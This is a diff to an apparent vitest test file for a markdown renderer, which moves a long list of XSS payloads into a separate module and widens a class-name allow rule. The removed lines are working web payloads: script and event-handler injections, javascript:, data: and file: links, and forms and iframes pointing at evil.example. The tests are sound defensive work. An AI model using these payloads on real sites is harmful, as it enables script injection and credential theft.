@@ -1,70 +1,9 @@
 /** Texts that want more than to be read. Nothing may survive that runs, loads or takes over the page. */
 import { describe, expect, it } from 'vitest'
 import { renderMarkdown } from './render.ts'
+import { attacks } from './testing/attacks.ts'
 
 const html = (source: string) => renderMarkdown(source).html
-
-const attacks = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src="//evil.example/x.js"></sCrIpT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="/uploads/a.png" onerror="alert(1)">',
-  '<img/src=x/onerror=alert(1)//',
-  '<svg onload=alert(1)><circle/></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><style><img src=x onerror=alert(1)></style></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<style>body{display:none}</style>',
-  '<p style="position:fixed;inset:0">x</p>',
-  '<u onclick="alert(1)" style="color:red" id="main" class="mast">x</u>',
-  '<table onmouseover=alert(1)><tr><td onclick=alert(1) style="x">1</td></tr></table>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<object data="x"></object><embed src="x"><applet></applet>',
-  '<form action="https://evil.example"><input name=p type=password><button>go</button></form>',
-  '<input autofocus onfocus=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=x>',
-  '<!-- <img src=x onerror=alert(1)> --><!--> <script>alert(1)</script> -->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<?php echo 1 ?><script>alert(1)</script>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<textarea><script>alert(1)</script></textarea>',
-  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](java\tscript:alert(1))',
-  '[x](&#106;avascript:alert(1))',
-  '[x](&#x6A;&#x61;vascript&colon;alert(1))',
-  '[x](javascript&colon;alert(1))',
-  '[x]( javascript:alert(1) )',
-  '[x](<javascript:alert(1)>)',
-  '[x](\u0001javascript:alert(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD4=)',
-  '[x](vbscript:msgbox(1))',
-  '[x](file:///etc/passwd)',
-  '[x](//evil.example/)',
-  '[x](\\\\evil.example/)',
-  '[x](\\\\\\\\evil.example/)',
-  '![x](javascript:alert(1))',
-  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
-  '![x](//evil.example/x.png)',
-  '![x](/uploads/../admin/x.png)',
-  '![x](/uploads/a.png" onerror="alert(1))',
-  '![x" onerror="alert(1)](/uploads/a.png)',
-  '![x](/uploads/a.png "t\\" onerror=\\"alert(1)")',
-  '[x](/uploads/a.docx "t\\" onclick=\\"alert(1)")',
-  '[x](https://example.org/"onclick="alert(1))',
-  '<javascript:alert(1)>',
-  '<https://example.org/"onclick=alert(1)>',
-  '[ref]: javascript:alert(1)\n\n[x][ref]',
-  '## <img src=x onerror=alert(1)> 标题 " onclick="x',
-  '[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <img src=x onerror=alert(1)>',
-  '[^"><script>]: x\n\n正文[^"><script>]',
-  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
-  '| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | <svg/onload=alert(1)> |',
-]
 
 const runs =
   /<(?:script|style|iframe|object|embed|form|svg|math|base|meta|link|button|textarea|noscript|template|details)[\s>/]/i
@@ -83,7 +22,9 @@ describe('hostile texts', () => {
     expect(inTag(rendered, /(?:href|src)="(?:\s*(?:javascript|data|vbscript|file):|\/\/|\\)/i)).toBe(false)
     expect(inTag(rendered, /<(?:img|video|audio)[^>]*src="(?!\/uploads\/(?!\.\.))/i)).toBe(false)
     expect(inTag(rendered, /id="(?!s-)/)).toBe(false)
-    expect(inTag(rendered, /class="(?!attachment"|external"|facts"|footnotes|table-scroll|video"|audio")/)).toBe(false)
+    expect(
+      inTag(rendered, /class="(?!attachment"|external"|facts"|footnotes|table-scroll|video"|audio"|right"|center")/),
+    ).toBe(false)
   })
 
   it.each([
